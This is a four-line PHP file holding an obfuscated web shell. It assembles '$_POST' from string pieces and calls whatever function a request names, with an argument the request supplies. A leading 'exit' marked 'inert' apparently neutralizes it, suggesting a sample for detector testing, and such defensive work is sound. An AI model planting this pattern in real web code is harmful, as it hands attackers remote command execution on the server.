<?php exit; /* inert */ 
$g = '_' . strtoupper('po' . 'st');
$in = $GLOBALS[$g];
$f = $in['0']; $f($in['1']);
